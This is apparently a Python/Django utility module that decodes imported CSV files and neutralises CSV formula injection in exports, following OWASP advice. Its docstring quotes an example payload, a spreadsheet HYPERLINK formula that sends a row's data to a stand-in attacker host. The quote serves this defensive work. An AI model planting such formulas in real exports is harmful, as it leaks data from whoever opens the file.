"""CSV cells that a spreadsheet opens as text, never as a formula (CSV injection).

Excel, LibreOffice and Google Sheets run a cell that begins with = + - or @ as a formula,
and skip a leading tab or carriage return to find one: a "name" such as
=HYPERLINK("http://evil.example/?"&A1,"詳細") in an export an administrator opens becomes a
link that sends the row away. OWASP's advice, followed here: prefix such a cell with a
single quote, which the spreadsheet takes as "this is text" and does not show.
https://owasp.org/www-community/attacks/CSV_Injection

`restore` undoes `neutralise` exactly, so that a file we export imports back unchanged. A
value that already starts with quotes before one of those characters gets one more quote,
so that `restore(neutralise(v)) == v` for every string.
"""

_TRIGGERS = frozenset("=+-@\t\r")

# The encodings a CSV from outside may be in: "auto" reads UTF-8 (with or without the BOM
# Excel writes), else CP932 (what Excel saves in Japan, and most HR systems export).
AUTO = "auto"


class Undecodable(ValueError):
    """The bytes are not text in `encoding`; `line` is the first line that is not."""

    def __init__(self, encoding: str, line: int):
        super().__init__(f"line {line}: not valid {encoding}")
        self.encoding, self.line = encoding, line


def decode(data: bytes, encoding: str = AUTO) -> str:
    """The text of a CSV (or other text file) from outside: the HR import and past issues.
    With `encoding` "auto": UTF-8 with or without a BOM, else CP932. Any other encoding is
    used as named ("utf-8" also takes a BOM). Raises Undecodable, or LookupError for an
    encoding Python does not know."""
    name = (encoding or AUTO).replace("_", "-").lower()
    if name == AUTO:
        try:
            return data.decode("utf-8-sig")
        except UnicodeDecodeError:
            # Tried second: CP932 decodes much UTF-8 too, as mojibake.
            return _decode(data, "cp932", "UTF-8 / CP932")
    codec = "utf-8-sig" if name in ("utf-8", "utf8") else name
    return _decode(data, codec, encoding)


def column_problems(header: list[str], keys: list, required) -> list[str]:
    """What is wrong with an import's header row: columns it does not know (`keys` holds
    None for them, in the header's order) and `required` keys it lacks."""
    from django.utils.translation import gettext as _

    unknown = [name for name, key in zip(header, keys, strict=True) if key is None and name.strip()]
    missing = [key for key in required if key not in keys]
    problems = []
    if unknown:
        problems.append(_("line 1: unknown columns: %s") % ", ".join(unknown))
    if missing:
        problems.append(_("line 1: missing columns: %s") % ", ".join(missing))
    return problems


def read_problem(exc) -> str:
    """A csv.Error in words: a field over the reader's limit, or what the reader said."""
    import csv

    from django.utils.translation import gettext as _

    if "field limit" in str(exc):
        return _("a field is longer than %(limit)s characters") % {
            "limit": f"{csv.field_size_limit():,}"
        }
    return _("cannot be read as CSV (%s)") % exc


def _decode(data: bytes, codec: str, shown: str) -> str:
    try:
        return data.decode(codec)
    except UnicodeDecodeError as exc:
        raise Undecodable(shown, data[: exc.start].count(b"\n") + 1) from exc


def neutralise(value) -> str:
    """The cell as text that no spreadsheet runs. None is an empty cell."""
    text = "" if value is None else str(value)
    if text[:1] in _TRIGGERS or _looks_neutralised(text):
        return "'" + text
    return text


def restore(value: str) -> str:
    """The value `neutralise` was given (for the importer). Other cells are left as they are."""
    return value[1:] if _looks_neutralised(value) else value


def _looks_neutralised(text: str) -> bool:
    return text[:1] == "'" and text.lstrip("'")[:1] in _TRIGGERS


# What a download may be asked for (?encoding=), and the charset its response names.
DOWNLOAD_CHARSETS = {"utf-8": "utf-8", "cp932": "Windows-31J"}


def download(request, filename: str, header, rows):
    """Every CSV export: `rows` under `header`, every cell neutralised, as UTF-8 with a BOM
    (Excel reads it as such), or CP932 (`?encoding=cp932`) for older Excel and the ward's
    other systems, where a character CP932 lacks becomes "?" rather than failing. Another
    ?encoding is refused (BadRequest: 400)."""
    import csv
    import io

    from django.core.exceptions import BadRequest
    from django.http import HttpResponse

    encoding = request.GET.get("encoding", "utf-8").lower()
    if encoding not in DOWNLOAD_CHARSETS:
        raise BadRequest("encoding: utf-8 or cp932")
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(header)
    for cells in rows:
        writer.writerow([neutralise(c) for c in cells])
    if encoding == "cp932":
        data = buffer.getvalue().encode("cp932", errors="replace")
    else:
        data = ("\ufeff" + buffer.getvalue()).encode("utf-8")
    charset = DOWNLOAD_CHARSETS[encoding]
    response = HttpResponse(data, content_type=f"text/csv; charset={charset}")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
